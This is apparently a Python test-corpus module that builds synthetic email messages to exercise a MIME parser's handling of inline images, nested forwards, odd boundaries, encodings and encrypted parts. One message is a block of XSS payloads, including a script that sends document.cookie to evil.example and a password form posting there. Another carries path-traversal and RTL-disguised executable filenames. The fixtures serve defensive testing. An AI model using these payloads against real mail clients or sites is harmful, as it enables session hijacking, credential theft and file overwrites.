"""Corpus messages about MIME structure: hostile HTML, cid images, forwards, boundaries, attachments."""

from __future__ import annotations

import base64

from tests.inbox.corpus.eml import (
    PNG_1PX,
    b64,
    crlf,
    ew,
    pseudo_random,
    qp,
    std,
)


def messages() -> dict[str, bytes]:
    m: dict[str, bytes] = {}

    xss = (
        "<html><head><title>Phish title</title><style>body{display:none} .x{background:url(https://evil.example/)}"
        '</style><script>alert(\'head\')</script><meta http-equiv="refresh" content="0;url=https://evil.example">'
        '<base href="https://evil.example/"></head>'
        "<body onload=\"alert('body')\"><p>Visible greeting</p>"
        '<img src="cid:none" onerror="alert(\'img\')">'
        '<a href="javascript:alert(1)">click me</a> <a href="JaVaScRiPt&#58;alert(2)">entity js</a> '
        '<a href="  javascript:alert(3)">spaced js</a> '
        '<a href="data:text/html;base64,PHNjcmlwdD4=">data link</a>'
        '<a href="vbscript:msgbox(1)">vb</a> <a href="https://ok.example/page" target="_self">fine link</a>'
        '<iframe src="https://evil.example/frame">iframe fallback</iframe>'
        '<object data="https://evil.example/x.swf">object fallback</object><embed src="x.swf">'
        '<form action="https://evil.example/steal"><input name="password">form text</form>'
        "<svg onload=\"alert('svg')\"><script>alert('svg2')</script></svg>"
        "<div style=\"position:fixed;top:0;left:0;width:100%;background-image:url('https://evil.example/bg')\">"
        'overlay</div><p style="color:red;behavior:url(x.htc)">styled</p>'
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<!--[if mso]><script>alert('mso')</script><![endif]-->"
        '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="><img src="data:image/png;base64,'
        + base64.b64encode(PNG_1PX).decode()
        + '"><math><mtext>math</mtext></math><p onmouseover="alert(4)">Visible ending</p></body></html>'
    )
    m["12-html-xss.eml"] = crlf(
        *std("Totally harmless newsletter", "xss-1"),
        "Content-Type: text/html; charset=utf-8",
        "",
        xss.encode("utf-8"),
        "",
    )

    related_html = (
        "<html><body><p>Here is a screenshot of the error:</p>"
        '<img src="cid:screenshot.png@01DA0001" alt="Error">'
        '<p>And our logo: <img src="cid:logo@example.com"></p></body></html>'
    )
    m["13-alternative-related-cid.eml"] = crlf(
        *std("Screenshot of the error", "cid-1"),
        'Content-Type: multipart/alternative; boundary="alt-boundary"',
        "",
        "--alt-boundary",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Here is a screenshot of the error: [image: Error]",
        "--alt-boundary",
        'Content-Type: multipart/related; boundary="rel-boundary"; type="text/html"',
        "",
        "--rel-boundary",
        "Content-Type: text/html; charset=utf-8",
        "",
        related_html,
        "--rel-boundary",
        "Content-Type: image/png; name=image001.png",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <screenshot.png@01DA0001>",
        "Content-Disposition: inline; filename=image001.png",
        "",
        b64(PNG_1PX),
        "--rel-boundary",
        "Content-Type: image/png",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <logo@example.com>",
        "",
        b64(PNG_1PX),
        "--rel-boundary",
        "Content-Type: image/png",
        "Content-Transfer-Encoding: base64",
        "Content-ID: <unused@example.com>",
        "",
        b64(PNG_1PX),
        "--rel-boundary--",
        "--alt-boundary--",
        "",
    )

    def forward(level: int, inner: bytes | None) -> bytes:
        headers = (
            f"From: Person {level} <person{level}@example.com>",
            f"To: person{level + 1}@example.com",
            f"Date: Mon, 1{level} Jan 2024 10:00:00 +0000",
            f"Message-ID: <forward-level-{level}@example.com>",
            f"Subject: Fwd level {level}",
            "MIME-Version: 1.0",
        )
        if inner is None:
            return crlf(
                *headers,
                "Content-Type: text/plain; charset=utf-8",
                "",
                "Innermost order question: where is order 42?",
                "",
            )
        boundary = f"fwd-{level}"
        return crlf(
            *headers,
            f'Content-Type: multipart/mixed; boundary="{boundary}"',
            "",
            f"--{boundary}",
            "Content-Type: text/plain; charset=utf-8",
            "",
            f"Comment at level {level}: see below.",
            f"--{boundary}",
            "Content-Type: message/rfc822",
            "",
            inner,
            f"--{boundary}--",
            "",
        )

    m["14-forward-3-levels.eml"] = forward(0, forward(1, forward(2, forward(3, None))))

    m["20-attachments-without-names.eml"] = crlf(
        *std("Files attached", "noname-1"),
        'Content-Type: multipart/mixed; boundary="nn"',
        "",
        "--nn",
        "Content-Type: text/plain",
        "",
        "See the attached files.",
        "--nn",
        "Content-Type: application/octet-stream",
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"\x00\x01\x02binary"),
        "--nn",
        "Content-Type: image/png",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment",
        "",
        b64(PNG_1PX),
        "--nn",
        "Content-Type: text/csv",
        "Content-Disposition: attachment",
        "",
        "order,amount",
        "42,10.00",
        "--nn",
        'Content-Type: application/pdf; name=""',
        'Content-Disposition: attachment; filename=""',
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"%PDF-1.4 fake"),
        "--nn--",
        "",
    )

    m["21-rfc2231-russian-filenames.eml"] = crlf(
        *std("Documents", "rfc2231-1"),
        'Content-Type: multipart/mixed; boundary="r2231"',
        "",
        "--r2231",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Documents attached.",
        "--r2231",
        "Content-Type: application/pdf",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment;",
        " filename*0*=utf-8''%D0%A1%D1%87%D1%91%D1%82%20%D0%B7%D0%B0%20;",
        " filename*1*=%D0%B4%D0%B5%D0%BA%D0%B0%D0%B1%D1%80%D1%8C;",
        " filename*2=.pdf",
        "",
        b64(b"%PDF-1.4 invoice"),
        "--r2231",
        "Content-Type: application/msword",
        "Content-Transfer-Encoding: base64",
        "Content-Disposition: attachment; filename*=koi8-r''"
        + "".join(f"%{byte:02X}" for byte in "Договор.doc".encode("koi8_r")),
        "",
        b64(b"doc"),
        "--r2231",
        f'Content-Type: text/plain; name="{ew("Акт сверки.txt", "utf-8")}"',
        f'Content-Disposition: attachment; filename="{ew("Акт сверки.txt", "utf-8")}"',
        "",
        "act",
        "--r2231",
        b"Content-Type: application/vnd.ms-excel",
        b'Content-Disposition: attachment; filename="' + "Прайс.xls".encode() + b'"',
        b"Content-Transfer-Encoding: base64",
        b"",
        b64(b"xls"),
        "--r2231--",
        "",
    )

    references = " ".join(f"<ref-{index:06d}@lists.example.com>" for index in range(40000))
    folded = "\r\n ".join(references[i : i + 900] for i in range(0, len(references), 900))
    m["22-huge-references-header.eml"] = crlf(
        *std("Re: the longest thread", "huge-1"),
        f"References: {folded}",
        "In-Reply-To: <ref-039999@lists.example.com>",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Still going.",
        "",
    )

    m["23-missing-closing-boundary.eml"] = crlf(
        *std("Report attached (truncated)", "trunc-1"),
        'Content-Type: multipart/mixed; boundary="cut"',
        "",
        "--cut",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The report is attached.",
        "--cut",
        "Content-Type: application/pdf; name=report.pdf",
        "Content-Disposition: attachment; filename=report.pdf",
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"%PDF-1.4 " + b"x" * 200)[:150],
    )

    m["24-missing-boundary-parameter.eml"] = crlf(
        *std("Boundary forgotten", "nobound-1"),
        "Content-Type: multipart/mixed",
        "",
        "--lost-boundary-123",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The body is still readable.",
        "--lost-boundary-123",
        "Content-Type: text/plain; name=notes.txt",
        "Content-Disposition: attachment; filename=notes.txt",
        "",
        "attached notes",
        "--lost-boundary-123--",
        "",
    )

    m["25-headers-only.eml"] = crlf(*std("Subject only, no body", "headers-only-1"))

    m["26-tnef-winmail.eml"] = crlf(
        *std("Outlook rich text", "tnef-1"),
        'Content-Type: multipart/mixed; boundary="tnef"',
        "",
        "--tnef",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Message body in plain text.",
        "--tnef",
        "Content-Type: application/ms-tnef",
        "Content-Transfer-Encoding: base64",
        "",
        b64(b"\x78\x9f\x3e\x22" + pseudo_random(64, b"tnef")),
        "--tnef--",
        "",
    )

    m["27-smime-signed.eml"] = crlf(
        *std("Signed message", "smime-1"),
        'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;',
        ' boundary="sig"',
        "",
        "This is an S/MIME signed message",
        "",
        "--sig",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "This text is signed.",
        "--sig",
        'Content-Type: application/pkcs7-signature; name="smime.p7s"',
        "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="smime.p7s"',
        "",
        b64(pseudo_random(96, b"smime")),
        "--sig--",
        "",
    )

    m["28-pgp-encrypted.eml"] = crlf(
        *std("Encrypted", "pgp-1"),
        'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgp"',
        "",
        "--pgp",
        "Content-Type: application/pgp-encrypted",
        "",
        "Version: 1",
        "--pgp",
        'Content-Type: application/octet-stream; name="encrypted.asc"',
        "",
        "-----BEGIN PGP MESSAGE-----",
        base64.b64encode(pseudo_random(60, b"pgp")).decode(),
        "-----END PGP MESSAGE-----",
        "--pgp--",
        "",
    )

    m["32-binary-garbage-body.eml"] = crlf(
        *std("Binary body", "garbage-body-1"),
        "Content-Type: text/plain; charset=utf-8",
        "",
        b"Readable start. " + pseudo_random(400, b"garbage") + b" readable end.",
        "",
    )

    m["33-no-headers-text.eml"] = b"Just some text pasted without any headers.\r\nSecond line.\r\n"

    m["35-apple-inline-image.eml"] = crlf(
        *std("Photo of the damage", "apple-1"),
        'Content-Type: multipart/mixed; boundary="Apple-Mail=_1"',
        "",
        "--Apple-Mail=_1",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "Look at this photo:",
        "--Apple-Mail=_1",
        "Content-Type: image/png; name=IMG_0001.png",
        "Content-Disposition: inline; filename=IMG_0001.png",
        "Content-Transfer-Encoding: base64",
        "",
        b64(PNG_1PX),
        "--Apple-Mail=_1",
        "Content-Type: text/plain; charset=us-ascii",
        "",
        "The box was crushed.",
        "--Apple-Mail=_1--",
        "",
    )

    m["36-wrong-boundary-parameter.eml"] = crlf(
        *std("Boundary mismatch", "wrongbound-1"),
        'Content-Type: multipart/alternative; boundary="declared-but-unused"',
        "",
        "--actually-used",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Plain alternative text.",
        "--actually-used",
        "Content-Type: text/html; charset=utf-8",
        "",
        "<p>HTML <b>alternative</b> text.</p>",
        "--actually-used--",
        "",
    )

    depth = 40
    nested = [*std("Deeply nested", "deep-1")]
    for level in range(depth):
        nested += [f'Content-Type: multipart/mixed; boundary="d{level}"', "", f"--d{level}"]
    nested += ["Content-Type: text/plain", "", "Bottom of the well."]
    for level in reversed(range(depth)):
        nested += [f"--d{level}--"]
    m["37-deep-nesting.eml"] = crlf(*nested, "")

    m["38-calendar-invite.eml"] = crlf(
        *std("Invitation: Call about order 42", "cal-1"),
        'Content-Type: multipart/mixed; boundary="cal"',
        "",
        "--cal",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "You are invited to a call.",
        "--cal",
        "Content-Type: text/calendar; charset=utf-8; method=REQUEST",
        "",
        "BEGIN:VCALENDAR",
        "VERSION:2.0",
        "METHOD:REQUEST",
        "BEGIN:VEVENT",
        "SUMMARY:Call about order 42",
        "END:VEVENT",
        "END:VCALENDAR",
        "--cal--",
        "",
    )

    long_name = "x" * 300 + ".pdf"
    m["39-hostile-filenames.eml"] = crlf(
        *std("Hostile file names", "names-1"),
        'Content-Type: multipart/mixed; boundary="hn"',
        "",
        "--hn",
        "Content-Type: text/plain",
        "",
        "Files.",
        "--hn",
        'Content-Type: application/octet-stream; name="..\\\\..\\\\windows\\\\evil.exe"',
        'Content-Disposition: attachment; filename="../../etc/passwd"',
        "",
        "root:x:0:0",
        "--hn",
        "Content-Type: application/octet-stream",
        b'Content-Disposition: attachment; filename="invoice\xe2\x80\xaetxt.exe"',
        "",
        "MZ",
        "--hn",
        "Content-Type: application/pdf",
        f'Content-Disposition: attachment; filename="{long_name}"',
        "",
        "pdf",
        "--hn",
        "Content-Type: application/octet-stream",
        'Content-Disposition: attachment; filename="...."',
        "",
        "dots",
        "--hn",
        "Content-Type: application/octet-stream",
        'Content-Disposition: attachment; filename="tab\tnew=?utf-8?Q?line=0A?=name.txt"',
        "",
        "ctl",
        "--hn--",
        "",
    )

    m["40-marketing-html-only.eml"] = crlf(
        *std("Our January offers", "mkt-1", ("List-Id: Offers <offers.shop.example>", "Precedence: list")),
        "Content-Type: text/html; charset=iso-8859-1",
        "Content-Transfer-Encoding: quoted-printable",
        "",
        qp(
            (
                "<html><head><style>td{font-family:Arial}</style></head><body><table><tr><td>"
                "<h1>Offers</h1><p>Caf\xe9 cr\xe8me for 2&nbsp;\u20ac.</p><ul><li>First offer</li>"
                '<li>Second offer</li></ul><a href="https://shop.example/offers">See all offers</a>'
                "</td></tr></table></body></html>"
            ).encode("cp1252")
        ),
        "",
    )

    m["43-no-date-no-id-no-from.eml"] = crlf(
        "To: support@helpdesk.example",
        "Subject: Anonymous",
        "Date: not a date at all",
        "",
        "Who sent this?",
        "",
    )

    m["99-binary-garbage.eml"] = pseudo_random(4096, b"not an email") + b"\x00" * 16

    return m
